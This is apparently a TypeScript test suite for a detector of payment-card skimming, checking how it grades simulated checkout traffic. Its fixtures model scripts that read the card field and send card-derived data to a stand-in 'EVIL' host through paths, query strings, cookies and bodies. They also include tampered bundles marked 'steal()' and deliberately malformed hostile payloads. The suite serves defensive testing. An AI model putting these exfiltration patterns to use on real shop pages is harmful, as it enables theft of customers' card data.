import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { act, approval, by, type Card, message, type Parts, post, SHOP, script, store } from './make.ts';

import { EVIL, STATS, type Page, baseline, judged, detected, sealed, random } from './differ-pages.ts';

describe('depends-on-card: what cannot be read', () => {
  const page: Page = (_card, kept, visit) => [
    post(kept, `${EVIL}/c`, random(`pad ${visit}`), { initiator: by(`${EVIL}/t.js`) }),
  ];
  test('a one-time pad from a script that had read the card: tampered, likely', () => {
    const { found } = judged(page, {
      more: { acts: [act('read', 'HTMLInputElement.value', `${EVIL}/t.js`)] },
    });
    expect(found).toMatchObject([
      { grade: 'tampered', confidence: 'likely', key: `depends-on-card:opaque:POST ${EVIL}/c` },
    ]);
  });
  test('from a script that had not: changed', () => {
    expect(judged(page).found).toMatchObject([{ grade: 'changed', severity: 'medium' }]);
  });
  test('to an approved host from a changed bundle that had read the card: changed, high', () => {
    const kept = store();
    const bundle = `${SHOP}/app.js`;
    const approved = approval({
      scripts: [
        { where: bundle, hashes: [kept.put('pay()')], reads: ['number'], owner: null, justification: null },
      ],
    });
    const { found } = judged(
      (_card, into, visit) => [post(into, `${SHOP}/log`, random(`${visit}`), { initiator: by(bundle) })],
      {
        approved,
        more: {
          scripts: [script(kept, bundle, 'pay();steal()')],
          acts: [act('read', 'HTMLInputElement.value', bundle)],
        },
      },
    );
    expect(found).toMatchObject([{ grade: 'changed', severity: 'high' }]);
  });
  test("to an approved host from a supplier's altered tag that never read the card before: tampered, likely", () => {
    const kept = store();
    const tag = `${STATS}/tag.js`;
    const approved = approval({
      ...baseline.baseline,
      scripts: [{ where: tag, hashes: [kept.put('count()')], owner: null, justification: null }],
    });
    const more: Parts = {
      scripts: [script(kept, tag, 'count();steal()')],
      acts: [act('read', 'HTMLInputElement.value', tag)],
    };
    const sends: Page = (_card, into, visit) => [
      post(into, `${STATS}/collect`, random(`${visit}`), { initiator: by(tag) }),
    ];
    expect(judged(sends, { approved, more }).found).toMatchObject([
      { grade: 'tampered', confidence: 'likely' },
    ]);
    const same: Parts = { ...more, scripts: [script(kept, tag, 'count()')] };
    expect(judged(sends, { approved, more: same }).found).toEqual([]);
  });
});

describe('depends-on-card: hostile pages', () => {
  test('five thousand messages, none alike', () => {
    const page: Page = (_card, _kept, visit) =>
      Array.from({ length: 5000 }, (_, i) =>
        message(`${EVIL}/${i % 7}/${(i * 7919 + visit * 104_729) % 100_003}`),
      );
    expect(detected(page).every(({ grade }) => grade === 'changed')).toBe(true);
  });
  test('five thousand equal messages, another number of them each time', () => {
    const page: Page = (_card, _kept, visit) =>
      Array.from({ length: 5000 - visit }, () => message(`${EVIL}/x`));
    expect(detected(page)).toEqual([]);
    const follows: Page = (_card, _kept, _visit, who) =>
      Array.from({ length: who === 'a' ? 5000 : 4990 }, () => message(`${EVIL}/x`));
    expect(detected(follows, 3)).toMatchObject([{ grade: 'changed', difference: { kind: 'count' } }]);
  });
  test.each<readonly [string, (card: Card) => string]>([
    ['nested a megabyte deep', (card) => '['.repeat(500_000) + card.code + ']'.repeat(500_000)],
    [
      'thirty thousand members',
      (card) => `{${Array.from({ length: 30_000 }, (_, i) => `"k${i}":${i}`).join()},"x":${card.code}}`,
    ],
    [
      'one name ten thousand times',
      (card) => Array.from({ length: 10_000 }, (_, i) => `a=${card.number[i % 16]}`).join('&'),
    ],
    ['broken JSON', (card) => `{"a":[${card.code}`],
    ['lone surrogates', (card) => `{"\ud800":"\udfff${card.code}"}`],
  ])('%s: differences are found all the same', (_, body) => {
    const page: Page = (card, kept) => [post(kept, `${EVIL}/c`, body(card))];
    const found = detected(page, 3);
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ grade }) => grade !== 'unobserved')).toBe(true);
  });
  test('addresses that are none, headers full of rubbish', () => {
    const page: Page = (card) => [
      message(`http://[::${card.code}`, {
        headers: [
          ['\ud800', '\udc00'.repeat(100)],
          ['', ';;;=='],
        ],
      }),
      message('https://%zz/%', { headers: [['Cookie', '=; ;==%']] }),
    ];
    expect(judged(page, { rounds: 3 }).judgement.verdict.kind).toBe('tampered');
  });
});

describe('depends-on-card: properties', () => {
  const url = fc.webUrl({ withQueryParameters: true, validSchemes: ['https'] });
  const wire = fc.array(
    fc.record({
      url,
      body: fc.oneof(fc.string({ unit: 'binary' }), fc.json(), fc.webQueryParameters()),
      headers: fc.array(fc.tuple(fc.string({ maxLength: 8 }), fc.string({ maxLength: 20 })), {
        maxLength: 3,
      }),
    }),
    { maxLength: 12 },
  );
  test('the same whatever the card: nothing is found and nothing is doubted', () => {
    fc.assert(
      fc.property(wire, (sent) => {
        const { found, doubt } = judged((_card, kept) =>
          sent.map((one) => post(kept, one.url, one.body.toWellFormed(), { headers: one.headers })),
        );
        expect(found).toEqual([]);
        expect(doubt).toBe(false);
      }),
      { numRuns: 60 },
    );
  });
  test('unrelated messages in another order: nothing is found', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.domain(), { minLength: 2, maxLength: 8 }),
        fc.array(fc.nat(), { minLength: 8, maxLength: 8 }),
        (hosts, seeds) => {
          const found = detected((_card, _kept, visit) =>
            hosts
              .map((host, i) => [(seeds[(visit + i) % 8] ?? 0) * (i + 1) + i, host] as const)
              .toSorted(([x], [y]) => x - y)
              .map(([, host]) => message(`https://${host}/t.gif`)),
          );
          expect(found).toEqual([]);
        },
      ),
      { numRuns: 60 },
    );
  });
  test('any part that is sealed with the card is found', () => {
    fc.assert(
      fc.property(
        fc.jsonValue({ maxDepth: 3 }),
        fc.constantFrom('path', 'query', 'body', 'cookie'),
        (noise, where) => {
          const found = detected((card, kept) => {
            const secret = encodeURIComponent(sealed(card.number));
            if (where === 'path') return [message(`${EVIL}/a/${secret}`)];
            if (where === 'query')
              return [message(`${EVIL}/a?x=${encodeURIComponent(JSON.stringify(noise))}&y=${secret}`)];
            if (where === 'cookie')
              return [message(`${EVIL}/a`, { headers: [['cookie', `x=1; y=${secret}`]] })];
            return [post(kept, `${EVIL}/a`, JSON.stringify([noise, { deep: [secret] }]))];
          });
          expect(found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
        },
      ),
      { numRuns: 60 },
    );
  });
});
